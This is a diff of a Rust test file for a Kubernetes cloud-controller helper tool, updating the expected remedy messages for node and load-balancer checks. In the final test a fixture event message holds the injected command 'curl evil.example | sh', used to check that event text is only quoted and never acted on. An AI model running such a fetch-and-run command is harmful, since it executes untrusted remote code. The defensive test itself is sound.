@@ -46,7 +46,7 @@ fn nodes() {
             "provider-ids",
             "warn",
             &["left alone", "node/worker-2: provider ID \"aws:///a/i-0\""],
-            "join anew",
+            "delete it (kubectl delete node worker-2), and let it join again",
         ),
         (
             "a kubelet without --cloud-provider=external",
@@ -65,7 +65,7 @@ fn nodes() {
             "nodes",
             "fail",
             &["stray: no server is named \"stray\""],
-            "ccm node inspect",
+            "rename its server to the node's name",
         ),
         (
             "a node whose server was deleted",
@@ -83,7 +83,7 @@ fn nodes() {
             "nodes",
             "warn",
             &["node/worker-2: provider ID"],
-            "ccm node inspect NAME",
+            "kubectl delete node worker-2",
         ),
         (
             "a node whose server was made anew under its name",
@@ -107,8 +107,11 @@ fn nodes() {
             },
             "nodes",
             "fail",
-            &["node/worker-2: "],
-            "another server has the node's name. A provider ID can't be changed: kubectl delete node NODE",
+            &[
+                "node/worker-2: ",
+                "delete the node (kubectl delete node worker-2)",
+            ],
+            "",
         ),
         (
             "an ID that is no number",
@@ -120,7 +123,7 @@ fn nodes() {
             "nodes",
             "warn",
             &["worker-2"],
-            "ccm node inspect",
+            "delete it (kubectl delete node worker-2), and let it join again",
         ),
         (
             "a node that waits",
@@ -205,7 +208,32 @@ fn services() {
             "services",
             "fail",
             &["default/odd: ", "algorithm-type"],
-            "the message says what to change",
+            "",
+        ),
+        (
+            "a port that another Service has",
+            |world| {
+                let fsn1 = ("location", "fsn1");
+                let edge = LoadBalancerService::new("edge", &[80]);
+                create(&world.sandbox, edge.with(&[fsn1, ("share", "edge")]));
+                let own = LoadBalancerService::new("web-2", &[80]);
+                create(&world.sandbox, own.with(&[fsn1]));
+                let synced = ccm(&world.env, &["lb", "sync", "--settings-from=none", "--yes"]);
+                assert_eq!(synced.code, 0, "{synced:?}");
+                let cluster = world.sandbox.cluster();
+                cluster.edit("services", Some("default"), "web-2", |service| {
+                    let annotations = &mut service["metadata"]["annotations"];
+                    annotations["load-balancer.hetzner.cloud/share"] = json!("edge");
+                });
+            },
+            "services",
+            "warn",
+            &[
+                "service/default/web-2: port 80 can't be had: Service default/edge has it on load balancer",
+                "; the Service stays on kubernetes-default-web-2 (",
+            ],
+            "give the Service another port, or remove its annotation load-balancer.hetzner.cloud/share; ccm lb inspect \
+             default/web-2 shows both load balancers",
         ),
         (
             "two load balancers with one label, a Service without node ports, and one that waits",
@@ -234,7 +262,7 @@ fn services() {
                 "default/closed: port 80 has no node port",
                 "service/default/new: without an address: ",
             ],
-            "the message says what to change",
+            "",
         ),
         (
             "a certificate that has expired",
@@ -265,7 +293,7 @@ fn services() {
                 "service/default/web: annotation load-balancer.hetzner.cloud/prtocol is not one that is known; did you mean",
                 "service/default/web: annotation load-balancer.hetzner.cloud/http-cookie-name",
             ],
-            "ccm lb inspect NAMESPACE/NAME shows the Service",
+            "",
         ),
         (
             "one that waits",
@@ -288,7 +316,7 @@ fn services() {
                 " ago, says SyncLoadBalancerFailed: \"",
                 "resource_limit_exceeded",
             ],
-            "ccm lb sync does it now",
+            "ccm lb sync default/new does it now",
         ),
         (
             "one that waits for two hours",
@@ -299,7 +327,7 @@ fn services() {
             "services",
             "fail",
             &["service/default/new: without an address: its load balancer is not made yet"],
-            "ccm lb sync does it now",
+            "ccm lb sync default/new does it now",
         ),
         (
             "a load balancer that does not go for two hours",
@@ -311,7 +339,7 @@ fn services() {
             "services",
             "fail",
             &["service/default/web: it was deleted, and not all is done"],
-            "ccm lb sync does it now",
+            "ccm lb sync default/web does it now",
         ),
         (
             "one that was refused, asked by who may not list events",
@@ -529,7 +557,10 @@ fn what_an_event_says_is_quoted_and_decides_nothing() {
     assert!(message.ends_with(quoted), "{message}");
     assert_eq!(items[0]["status"], "warn");
     let remedy = items[0]["remedy"].as_str().unwrap();
-    assert!(remedy.contains("ccm lb sync does it now"), "{remedy}");
+    assert!(
+        remedy.contains("ccm lb sync default/new does it now"),
+        "{remedy}"
+    );
     assert!(!remedy.contains("what the message names"), "{remedy}");
     let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
     assert!(!unquoted.contains("evil"), "{inspected}");
